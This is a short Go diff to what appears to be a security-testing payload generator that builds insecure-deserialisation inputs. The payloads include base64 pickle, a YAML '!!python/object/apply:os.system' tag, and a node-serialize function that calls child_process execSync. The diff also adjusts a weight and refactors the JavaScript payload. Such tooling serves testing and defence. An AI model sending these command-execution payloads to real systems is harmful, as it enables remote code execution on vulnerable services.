@@ -15,7 +15,7 @@ func deserialisation() Class {
 		Yield: kinds{"data": 70, "json": 45, "code": 15, "text": 15, "template": 10, "unknown": 20, "query": 5, "name": 5}.
 			about(prose(80), "pickle", "yaml", "serial", "state", "snapshot", "session", "base64", "payload", "blob", "cookie", "saved", "config"),
 		Payloads: serialPayloads,
-		Balanced: 4,
+		Balanced: 5,
 	}
 }
 
@@ -33,7 +33,7 @@ func serialPayloads(w *World, _ Place) []Payload {
 		{"pickle in base64", func(m string) string { return inBase64(pickle(m)) }},
 		{"YAML that calls a function of Python", func(m string) string { return fmt.Sprintf("!!python/object/apply:os.system [%q]", m) }},
 		{"JSON with a function of JavaScript", func(m string) string {
-			return fill(`{"x":"_$$ND_FUNC$$_function(){return require('child_process').execSync('§')}()"}`, "", m)
+			return fill(`{"x":"_$$ND_FUNC$$_function(){return `+scriptRuns+`}()"}`, "", m)
 		}},
 		{"JSON that is evaluated", func(m string) string { return fill(`{"x":`+scriptRuns+`}`, "", m) }},
 		{"JSON that is evaluated by Python", func(m string) string { return fill(`{"x":`+pythonRuns+`}`, "", m) }},
